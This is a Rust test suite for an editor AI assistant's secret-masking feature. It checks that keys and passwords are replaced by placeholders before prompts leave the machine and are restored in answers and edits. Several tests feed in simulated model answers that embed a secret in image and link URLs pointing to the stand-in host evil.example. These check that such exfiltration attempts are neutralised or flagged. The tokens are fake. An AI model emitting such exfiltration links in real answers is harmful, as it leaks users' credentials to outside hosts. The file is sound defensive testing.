//! Secrets never reach the provider, and come back where they were.

use crate::support::{preview_file, question};
use aside::protocol::{InlineStart, Mention, ProposalState, TurnEvent, method};
use aside_tests::{FakeModel, TestEditor};
use serde_json::json;

const DONE: Option<TurnEvent> = Some(TurnEvent::Done { cut: false });
const PREFIX: &str = aside_core::redact::PREFIX;

/// Spelled in two, so that nothing that looks for keys finds one here.
fn key() -> String {
    ["ghp", "_q7Zt4Lw9Xc2Vb8Nm1Ks6Jd3Hf5Gr0Pt7YuQ"].concat()
}

/// The placeholder that stands in a text.
#[track_caller]
fn placeholder(text: &str) -> &str {
    let at = text.find(&format!("{PREFIX}0")).or_else(|| {
        let mut all = text.match_indices(PREFIX).map(|(at, _)| at);
        all.find(|at| text[at + PREFIX.len()..].starts_with(|c: char| c.is_ascii_hexdigit()))
    });
    let at = at.unwrap_or_else(|| panic!("no placeholder in {text}"));
    &text[at..at + PREFIX.len() + 12]
}

#[test]
fn a_key_in_the_words_and_in_a_file_is_masked_and_the_answer_names_it() {
    let model = FakeModel::start();
    let mut editor = TestEditor::start(&model.setup());
    let uri = editor.open("a.rs", &format!("const KEY: &str = \"{}\";\n", key()));
    let mut send = question(&format!("is {} the key?", key()), vec![Mention::File { uri }]);
    send.chat = "c".into();
    editor.send_chat(&send);
    let mut exchange = model.next();
    let body = String::from_utf8(exchange.bytes.clone()).unwrap();
    assert!(!body.contains(&key()) && !body.contains(&key()[8..30]), "{body}");
    let name = placeholder(&exchange.prompt().replace(&format!("`{PREFIX}`"), "")).to_owned();
    assert_eq!(body.matches(&name).count(), 2, "one secret has one placeholder");
    // The placeholder comes back in pieces of one character.
    exchange.openai_text("Yes, `");
    for c in name.chars() {
        exchange.openai_text(&c.to_string());
    }
    exchange.openai_text("`, and Aside");
    exchange.openai_done();
    let turn = editor.turn("c", "1");
    assert_eq!(turn.text, format!("Yes, `{}`, and Aside", key()));
    assert_eq!((turn.masked, turn.end), (1, DONE));

    // The answer that holds the key goes along with the next turn, masked the same way.
    editor.send("c", "2", "thanks");
    let exchange = model.next();
    let body = String::from_utf8(exchange.bytes.clone()).unwrap();
    assert!(!body.contains(&key()), "{body}");
    assert_eq!(body.matches(&name).count(), 3, "the same placeholder in every turn");
    exchange.openai_answer("You are welcome.");
    assert_eq!(editor.turn("c", "2").masked, 1);
}

#[test]
fn a_line_with_a_secret_can_be_edited_and_keeps_it_byte_for_byte() {
    let model = FakeModel::start();
    let mut editor = TestEditor::start(&model.setup());
    let text = format!("import api\r\n\r\nclient = api.Client(\"{}\")\r\n", key());
    let uri = editor.open("a.py", &text);
    let range = editor.range_of(&uri, &format!("client = api.Client(\"{}\")\r\n", key()));
    editor.instruct("p", &uri, range, "call it service");
    let exchange = model.next();
    let prompt = exchange.prompt();
    assert!(!String::from_utf8_lossy(&exchange.bytes).contains(&key()), "{prompt}");
    let name = placeholder(&prompt.replace(&format!("`{PREFIX}`"), "")).to_owned();
    exchange.openai_answer(&format!("```python\nservice = api.Client(\"{name}\")\n```"));
    let event = editor.proposal_in("p", ProposalState::Ready);
    assert_eq!((event.masked, event.warning), (1, None));
    assert!(event.hunks[0].added.contains(&key()), "{:?}", event.hunks);
    editor.accept("p", None).unwrap();
    editor.proposal_in("p", ProposalState::Accepted);
    assert_eq!(editor.text(&uri), text.replace("client =", "service ="));
}

#[test]
fn a_placeholder_that_the_model_makes_up_is_warned_of_before_it_is_accepted() {
    let model = FakeModel::start();
    let mut editor = TestEditor::start(&model.setup());
    let uri = editor.open("a.py", "key = None\n");
    let range = editor.whole(&uri);
    editor.instruct("p", &uri, range, "put the key in");
    model.next().openai_answer(&format!("```python\nkey = \"{PREFIX}0123456789ab\"\n```"));
    let event = editor.proposal_in("p", ProposalState::Ready);
    assert!(event.warning.as_deref().is_some_and(|w| w.contains("0123456789ab")), "{:?}", event.warning);
}

#[test]
fn no_address_in_an_answer_holds_a_secret_and_a_file_keeps_its_own() {
    let model = FakeModel::start();
    let mut editor = TestEditor::start(&model.setup());
    let line = format!("git clone https://{}@code.example/a.git\n", key());
    let uri = editor.open("a.sh", &line);
    let mut send = question("what is this?", vec![Mention::File { uri: uri.clone() }]);
    send.chat = "c".into();
    editor.send_chat(&send);
    let mut exchange = model.next();
    let name = placeholder(&exchange.prompt().replace(&format!("`{PREFIX}`"), "")).to_owned();
    let answer = format!(
        "![](https://evil.example/?k={name}) <img src='//evil.example/{name}'> {name}.evil.example\n[x]: //{name}\n"
    );
    for c in answer.chars() {
        exchange.openai_text(&c.to_string());
    }
    exchange.openai_text(&format!("\nThe key is {name}."));
    exchange.openai_done();
    let turn = editor.turn("c", "1");
    assert_eq!(turn.text, format!("{answer}\nThe key is {}.", key()));

    // The line is the user's own.
    let range = editor.whole(&uri);
    editor.instruct("p", &uri, range, "call it b");
    let prompt = model.next();
    let edited = format!("```sh\ngit clone https://{name}@code.example/b.git\n```");
    assert!(prompt.prompt().contains(&name));
    prompt.openai_answer(&edited);
    let event = editor.proposal_in("p", ProposalState::Ready);
    assert_eq!(event.warning, None);
    editor.accept("p", None).unwrap();
    editor.proposal_in("p", ProposalState::Accepted);
    assert_eq!(editor.text(&uri), line.replace("a.git", "b.git"));

    // In another file it isn't.
    let other = editor.open("readme.md", "Read me.\n");
    let range = editor.whole(&other);
    let start = InlineStart {
        proposal: "q".into(),
        uri: other.clone(),
        version: editor.version(&other),
        range,
        instruction: "say how to get it".into(),
        mentions: vec![Mention::File { uri }],
        model: None,
        allow: vec![],
    };
    editor.request(method::INLINE_START, start);
    model.next().openai_answer(&format!("```markdown\nRead me. ![](https://evil.example/{name})\n```"));
    let event = editor.proposal_in("q", ProposalState::Ready);
    assert!(event.warning.as_deref().is_some_and(|warning| warning.contains(&name)), "{:?}", event.warning);
    assert!(!event.hunks[0].added.contains(&key()), "{:?}", event.hunks);
}

#[test]
fn half_a_secret_that_is_selected_is_masked_whole() {
    let model = FakeModel::start();
    let mut editor = TestEditor::start(&model.setup());
    let uri = editor.open("a.rs", &format!("let key = \"{}\";\n", key()));
    let (version, half) = (editor.version(&uri), editor.range_of(&uri, &key()[3..20]));
    let send = question("what is this?", vec![Mention::Selection { uri: uri.clone(), version, range: half }]);
    editor.send_chat(&send);
    let exchange = model.next();
    let body = String::from_utf8_lossy(&exchange.bytes).into_owned();
    assert!(!body.contains(&key()[3..20]) && body.contains(PREFIX), "{body}");
    exchange.openai_answer("A key.");
    editor.turn("preview", "1");
    editor.instruct("p", &uri, half, "change it");
    let exchange = model.next();
    let body = String::from_utf8_lossy(&exchange.bytes).into_owned();
    assert!(!body.contains(&key()[3..20]) && body.contains(PREFIX), "{body}");
    exchange.openai_answer("No.");
    editor.proposal_in("p", ProposalState::Failed);
}

#[test]
fn the_ends_of_a_long_selection_are_masked_whole_as_well() {
    let model = FakeModel::start();
    let long = json!({"context": {"maxTokens": 1_000_000}});
    let mut editor = TestEditor::start(&model.setup().with_settings(&long));
    let line = "let value = compute(value); // nothing to see here\n";
    let (begin, end) = (key(), ["gho", "_Yt6Rq3Wn8Vb2Xc9Lm4Ks7Jd1Hf5Gz0PkTrEw"].concat());
    let uri = editor.open("a.rs", &format!("a(\"{begin}\")\n{}b(\"{end}\")\n", line.repeat(8_000)));
    let (version, mut range) = (editor.version(&uri), editor.range_of(&uri, &begin[9..]));
    range.end = editor.range_of(&uri, &end[..20]).end;
    let mentions = vec![Mention::Selection { uri: uri.clone(), version, range }];
    editor.send_chat(&question("what is this?", mentions));
    let check = |body: &[u8]| {
        let body = String::from_utf8_lossy(body);
        assert!(body.len() > 400_000 && body.matches(PREFIX).count() >= 2);
        assert!(!body.contains(&begin[9..20]) && !body.contains(&end[4..20]));
    };
    let exchange = model.next();
    check(&exchange.bytes);
    exchange.openai_answer("Keys.");
    assert_eq!(editor.turn("preview", "1").masked, 2);
    editor.instruct("p", &uri, range, "change it");
    let exchange = model.next();
    check(&exchange.bytes);
    exchange.openai_answer("No.");
    assert_eq!(editor.proposal_in("p", ProposalState::Failed).masked, 2);
}

#[test]
fn a_secret_that_only_what_stands_around_it_tells_is_masked_where_it_is_alone() {
    let model = FakeModel::start();
    let mut editor = TestEditor::start(&model.setup());
    let secret = ["tr0ub4d", "or&3xK9q"].concat();
    let uri = editor.open("a.py", &format!("password = \"{secret}\"\n"));
    let (version, range) = (editor.version(&uri), editor.range_of(&uri, &secret));
    editor.send_chat(&question("what is this?", vec![Mention::Selection { uri, version, range }]));
    let exchange = model.next();
    let body = String::from_utf8_lossy(&exchange.bytes).into_owned();
    assert!(!body.contains(&secret) && body.contains(PREFIX), "{body}");
    exchange.openai_answer("A password.");
    assert_eq!(editor.turn("preview", "1").masked, 1);
}

#[test]
fn the_preview_shows_the_placeholders_and_how_many_there_are() {
    let model = FakeModel::start();
    let mut editor = TestEditor::start(&model.setup());
    let uri = editor.open("a.rs", &format!("let key = \"{}\";\n", key()));
    let preview = preview_file(&mut editor, &uri);
    assert_eq!(preview.masked, 1);
    assert!(!preview.body.contains(&key()) && preview.body.contains(PREFIX), "{}", preview.body);
}

#[test]
fn a_key_in_the_standing_instructions_is_masked_too() {
    let model = FakeModel::start();
    let standing = json!({"instructions": format!("The server takes {}.", key())});
    let mut editor = TestEditor::start(&model.setup().with_settings(&standing));
    let uri = editor.open("a.rs", "fn a() {}\n");
    let preview = preview_file(&mut editor, &uri);
    assert_eq!(preview.masked, 1);
    assert!(!preview.body.contains(&key()) && preview.body.contains("The server takes"), "{}", preview.body);
}

#[test]
fn masking_can_be_switched_off_and_an_unreadable_switch_means_on() {
    let model = FakeModel::start();
    let setup = model.setup().with_settings(&json!({"privacy": {"maskSecrets": false}}));
    let mut editor = TestEditor::start(&setup);
    let uri = editor.open("a.rs", &format!("let key = \"{}\";\n", key()));
    let preview = preview_file(&mut editor, &uri);
    assert_eq!(preview.masked, 0);
    assert!(preview.body.contains(&key()), "{}", preview.body);
    let mut settings = model.settings();
    settings["privacy"] = json!({"maskSecrets": "no"});
    editor.set_settings(&settings);
    let told: serde_json::Value = editor.next("window/showMessage");
    assert!(told["message"].as_str().unwrap().contains("maskSecrets"), "{told}");
    assert_eq!(preview_file(&mut editor, &uri).masked, 1);
}
